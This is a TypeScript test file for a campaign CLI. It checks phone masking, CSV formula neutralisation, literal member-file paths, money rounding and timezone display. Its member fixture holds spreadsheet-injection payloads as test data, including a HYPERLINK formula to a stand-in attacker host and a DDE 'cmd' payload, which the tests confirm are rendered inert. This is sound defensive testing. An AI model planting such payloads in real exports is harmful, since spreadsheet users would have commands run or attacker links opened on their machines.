/**
 * Hostile member data and the files chuda writes, through the built CLI: phone numbers are masked in every
 * report whatever column they are in, CSV cells never run as spreadsheet formulas, `--members` is read as
 * written (never as a DuckDB glob), output folders are made before the work, money rounds one way in text,
 * JSON and HTML, amounts with a full-width ￥ are read, and people read times in the project's timezone.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import iconv from "iconv-lite";
import { SqliteLedger } from "../../src/dispatch/ledger.js";
import { testSend } from "../fixtures/sends.js";
import { chuda, hasStackTrace } from "./cli.js";

const AT = "2026-12-24 10:30";
const OCC = "2026-12-24T10:00+08:00";

const YAML = `timezone: Asia/Shanghai
members:
  key: member_id
  fields:
    member_id: string
    name: string
    contact: string
    mobile: phone
channels:
  outbox:
    driver: file
    address: contact
    price: 1.005 CNY per message
    rates: { delivered: 1, opened: 0.2 }
  texts:
    driver: file
    address: mobile
    rates: { delivered: 1, opened: 0.2 }
    options: { path: .chuda/texts.jsonl }
  contacts:
    driver: file
    address: contact
    rates: { delivered: 1, opened: 0.2 }
    options: { path: .chuda/contacts.jsonl }
policy:
  default_time: "10:00"
`;

const campaign = (name: string, channel: string, audience: string, holdout = "") => `campaign ${name} "${name}" {
  audience ${audience}
  trigger  once at 2026-12-24 10:00
  content  "hello"
  channel  ${channel}
  goal     purchase within 7 days
${holdout}}
`;

/** Member keys and addresses an attacker (or a careless export) could put in a snapshot. */
const MEMBERS = [
  "member_id,name,contact,mobile",
  `+8613812341234,王伟,"=HYPERLINK(""http://evil.example/?x"",""click"")",13812341234`,
  `=cmd|' /C calc'!A0,李娜,+86 139 0000 1111,8613912345678`,
  `@SUM(1+1),张三,-2+3,0086-137-1234-5678`,
  `138-1234-5678,赵四,8613600001111,+86 135 1234 5678`,
].join("\n");

/** A mainland mobile in clear: 11 digits 1[3-9]…, with or without a prefix and separators. */
const CLEAR_PHONE = /(?<!\d)1[3-9]\d[ -]?\d{4}[ -]?\d{4}(?!\d)/;

function makeRepo(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "chuda-privacy-"));
  writeFileSync(path.join(dir, "chuda.yaml"), YAML);
  mkdirSync(path.join(dir, "campaigns"));
  // `hello` reaches the one member on `outbox` (so that its cost is one send at ¥1.005, which a float rounding makes ¥1.00); `texts` and `reach` all four.
  const text = [
    campaign("hello", "outbox", 'name == "王伟"'),
    campaign("texts", "texts", "member_id is set"),
    campaign("reach", "contacts", "member_id is set"),
  ];
  writeFileSync(path.join(dir, "campaigns/c.chuda"), text.join("\n"));
  mkdirSync(path.join(dir, "templates"));
  writeFileSync(path.join(dir, "templates/hello.yaml"), 'file:\n  text: "{{name}}您好"\n');
  writeFileSync(path.join(dir, "members.csv"), MEMBERS + "\n");
  return dir;
}

/** Splits one CSV line (quotes honoured). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cur += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === "," && !quoted) {
      out.push(cur);
      cur = "";
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

let dir: string;
beforeAll(() => {
  dir = makeRepo();
});

describe("the plan CSV and output folders", () => {
  it("creates missing folders for --plan and --report; no cell is a live formula; no phone in clear; local time beside UTC", async () => {
    const r = await chuda(["simulate", "--members", "members.csv", "--at", AT, "--plan", "out/deep/plan.csv", "--report", "out2/x.html"], { cwd: dir });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(path.join(dir, "out2/x.html"))).toBe(true);
    const text = readFileSync(path.join(dir, "out/deep/plan.csv"), "utf8");
    const lines = text.trim().split("\n");
    expect(lines[0]).toBe("campaign,occurrence,member,channel,address,send_at,send_at_local,reason");
    const rows = lines.slice(1).map(cells);
    expect(rows.length).toBe(9);
    for (const row of rows) for (const c of row) expect(c, `cell ${JSON.stringify(c)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).not.toMatch(CLEAR_PHONE);
    // The hostile values are kept (as text), not dropped.
    expect(rows.map((x) => x[2])).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'+86138****1234", "138-****-5678"]));
    expect(rows.map((x) => x[4])).toEqual(
      expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?x","click")', "'-2+3", "'+86 139 **** 1111", "86136****1111"]),
    );
    // The raw file quotes every neutralised cell.
    expect(text).toContain(`"'=cmd|' /C calc'!A0"`);
    for (const row of rows) {
      expect(row[5]).toBe("2026-12-24T02:00:00.000Z");
      expect(row[6]).toBe("2026-12-24 10:00 +08:00");
    }
  });

  it("refuses an output path it cannot write before the work, in one line", async () => {
    writeFileSync(path.join(dir, "afile"), "x");
    for (const args of [
      ["--plan", "afile/plan.csv"],
      ["--report", "afile/x.html"],
      ["--plan", "out"],
    ]) {
      const r = await chuda(["simulate", "--members", "members.csv", "--at", AT, ...args], { cwd: dir });
      expect(r.exitCode, args.join(" ")).toBe(2);
      expect(r.stderr).toMatch(new RegExp(`^chuda: ${args[0]} ${args[1]}`, "m"));
      expect(r.stderr).not.toMatch(/internal error/);
      expect(hasStackTrace(r.stderr + r.stdout)).toBe(false);
      expect(r.stdout).toBe(""); // nothing was planned
    }
  });
});

describe("money rounds one way", () => {
  it("¥1.005 (100.4999… fen as a float) is ¥1.01 in the text, the JSON and the HTML of simulate", async () => {
    const t = await chuda(["simulate", "--members", "members.csv", "--at", AT, "hello", "--report", "sim.html"], { cwd: dir });
    expect(t.exitCode, t.stderr).toBe(0);
    expect(t.stdout).toMatch(/estimated cost ¥1\.01$/m);
    const j = await chuda(["simulate", "--members", "members.csv", "--at", AT, "hello", "--json"], { cwd: dir });
    const s = JSON.parse(j.stdout);
    expect(s.total.cost).toBe(1.01);
    expect(s.campaigns[0].estimated.cost).toBe(1.01);
    const html = readFileSync(path.join(dir, "sim.html"), "utf8");
    expect(html).toContain("¥1.01");
    expect(html).not.toContain("¥1.00");
  });
});

describe("masking in dispatch, status and preview; times in the project's zone", () => {
  it("dry run (text and JSON), the run's summary, status (text and JSON) and preview show no phone number in clear", async () => {
    const dry = await chuda(["dispatch", "--members", "members.csv", "--at", AT, "--dry-run"], { cwd: dir });
    expect(dry.exitCode, dry.stderr).toBe(0);
    expect(dry.stdout).toContain("at 2026-12-24 10:30 +08:00");
    expect(dry.stdout).toContain("+86138****1234");
    expect(dry.stdout).not.toMatch(CLEAR_PHONE);
    const dryJson = await chuda(["dispatch", "--members", "members.csv", "--at", AT, "--dry-run", "--json"], { cwd: dir });
    expect(dryJson.exitCode, dryJson.stderr).toBe(0);
    expect(JSON.parse(dryJson.stdout).sends.length).toBe(9);
    expect(dryJson.stdout).not.toMatch(CLEAR_PHONE);

    const run = await chuda(["dispatch", "--members", "members.csv", "--at", AT], { cwd: dir, env: { CHUDA_NOW: "2026-12-24T02:30:00Z" } });
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.stdout).toContain("Dispatch at 2026-12-24 10:30 +08:00");
    expect(run.stdout + run.stderr).not.toMatch(CLEAR_PHONE);

    // A send whose answer was lost (state unknown), for a member whose key is a phone number.
    const ledger = new SqliteLedger(path.join(dir, ".chuda/state.db"));
    const m = "+86 150 1234 5678";
    await ledger.insertSends([
      testSend({
        campaign: "texts",
        occurrence: OCC,
        member: m,
        channel: "texts",
        state: "unknown" as never,
        send_at: Date.UTC(2026, 11, 24, 2),
        address: "8615012345678",
      }),
    ]);
    await ledger.close();
    const st = await chuda(["status"], { cwd: dir });
    expect(st.exitCode, st.stderr).toBe(0);
    expect(st.stdout).toContain("+86 150 **** 5678");
    expect(st.stdout).toMatch(/ 2026-12-24 10:30 \+08:00 /); // the run's moment, in the project's zone
    expect(st.stdout).not.toMatch(CLEAR_PHONE);
    const sj = await chuda(["status", "--json"], { cwd: dir });
    expect(sj.exitCode, sj.stderr).toBe(0);
    expect(JSON.parse(sj.stdout).unknown.length).toBe(1);
    expect(JSON.parse(sj.stdout).runs[0].at).toBe("2026-12-24T02:30:00.000Z"); // machines keep UTC
    expect(sj.stdout).not.toMatch(CLEAR_PHONE);

    const pv = await chuda(["preview", "texts", "--members", "members.csv", "--member", "+8613812341234", "--from", "2026-12-20"], { cwd: dir });
    expect(pv.exitCode, pv.stderr).toBe(0);
    expect(pv.stdout).toContain("next send: 2026-12-24 10:00 +08:00");
    expect(pv.stdout).not.toMatch(CLEAR_PHONE);
  });
});

describe("--members is read as written", () => {
  it("m[1].csv is that file, not m1.csv; m*.csv is that file, not four; a pattern that names no file is refused", async () => {
    const d = makeRepo();
    const header = "member_id,name,contact,mobile\n";
    const rows = (n: number, p: string) => Array.from({ length: n }, (_, i) => `${p}${i},n,c${i},`).join("\n") + "\n";
    writeFileSync(path.join(d, "m1.csv"), header + rows(1, "A"));
    writeFileSync(path.join(d, "m[1].csv"), header + rows(2, "B"));
    writeFileSync(path.join(d, "m*.csv"), header + rows(3, "C"));
    writeFileSync(path.join(d, "m2.csv"), header + rows(4, "D"));
    const count = async (file: string) => {
      const r = await chuda(["simulate", "--members", file, "--at", AT, "--json"], { cwd: d });
      expect(r.exitCode, r.stderr).toBe(0);
      return JSON.parse(r.stdout).members as number;
    };
    expect(await count("m[1].csv")).toBe(2);
    expect(await count("m*.csv")).toBe(3);
    expect(await count(path.join(d, "m?.csv").replace("?", "1"))).toBe(1);
    const miss = await chuda(["simulate", "--members", "q*.csv", "--at", AT], { cwd: d });
    expect(miss.exitCode).toBe(2);
    expect(miss.stderr).toMatch(/q\*\.csv.*not expanded/);
    expect(hasStackTrace(miss.stderr)).toBe(false);
    const missing = await chuda(["simulate", "--members", "m?.csv", "--at", AT], { cwd: d });
    expect(missing.exitCode).toBe(2);
  });
});

describe("chuda report: money and full-width amounts", () => {
  it("reads ￥1，234.50 from a GBK export; cost ¥1.005 is ¥1.01 in text, JSON and HTML", async () => {
    const d = makeRepo();
    const ledger = new SqliteLedger(path.join(d, ".chuda/state.db"));
    const at = Date.UTC(2026, 11, 24, 2);
    await ledger.insertSends([
      testSend({ campaign: "hello", occurrence: OCC, member: "M1", channel: "outbox", send_at: at, state: "sent" as never }),
      testSend({ campaign: "hello", occurrence: OCC, member: "M2", channel: "-", send_at: at, state: "held_out" as never }),
    ]);
    await ledger.close();
    const csv = "member_id,kind,code,amount,time\nM1,purchase,,￥1，234.50,2026-12-25 12:00\nM2,purchase,,￥12.5,2026-12-25 13:00\n";
    writeFileSync(path.join(d, "conv.csv"), iconv.encode(csv, "gbk"));
    const j = await chuda(["report", "--conversions", "conv.csv", "--json"], { cwd: d });
    expect(j.exitCode, j.stderr).toBe(0);
    expect(j.stderr).not.toMatch(/rejected/);
    const c = JSON.parse(j.stdout).campaigns.find((x: { name: string }) => x.name === "hello");
    expect(c.treated.revenue).toBe(1234.5);
    expect(c.control.revenue).toBe(12.5);
    expect(c.cost).toBe(1.01);
    const t = await chuda(["report", "--conversions", "conv.csv", "--html", "r/report.html"], { cwd: d });
    expect(t.exitCode, t.stderr).toBe(0);
    expect(t.stdout).toMatch(/¥1\.01/);
    const html = readFileSync(path.join(d, "r/report.html"), "utf8");
    expect(html).toContain("¥1.01");
    expect(html).not.toContain("¥1.00");
  });
});
